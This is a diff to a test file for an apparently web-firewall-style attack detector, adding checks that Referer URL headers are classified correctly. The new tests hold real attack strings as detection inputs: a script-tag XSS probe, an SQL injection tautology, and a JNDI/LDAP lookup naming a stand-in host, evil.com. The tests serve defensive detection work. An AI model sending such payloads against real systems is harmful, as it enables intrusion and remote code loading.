@@ -1,4 +1,4 @@
-import { AttackClass, detectAttacks, ALL_VALUE_CLASSES, lastRule } from "../attack";
+import { AttackClass, detectAttacks, ALL_VALUE_CLASSES, lastRule, detectAttackInUrlHeader } from "../attack";
 
 function bits(s: string): u32 {
   const b = String.UTF8.encode(s);
@@ -171,5 +171,16 @@ describe("payload-list shapes found in the audit of issue #3 (second pass)", () 
     for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Ssrf)).toBe(true, attacks[i]);
     const benign: StaticArray<string> = ["你好，我的订单号是１２３４５。请尽快发货！", "①商品を選ぶ ②カートに入れる ③購入する", "http://[::8.8.8.8]/"];
     for (let i = 0; i < benign.length; i++) expect(clean(benign[i])).toBe(true, benign[i]);
+  });
+});
+
+function urlHeader(s: string): AttackClass { const b = String.UTF8.encode(s); return detectAttackInUrlHeader(changetype<usize>(b), b.byteLength); }
+describe("URL-valued headers (Referer)", () => {
+  it("a page address is not an include or an internal host; script and SQL in it still are attacks", () => {
+    expect(urlHeader("http://shop.example.com/cart.php")).toBe(AttackClass.None);
+    expect(urlHeader("http://localhost:3000/checkout")).toBe(AttackClass.None);
+    expect(urlHeader("http://x/<script>alert(1)</script>")).toBe(AttackClass.Xss);
+    expect(urlHeader("http://x/?id=1' or '1'='1")).toBe(AttackClass.Sqli);
+    expect(urlHeader("${jndi:ldap://evil.com/a}")).toBe(AttackClass.Jndi);
   });
 });
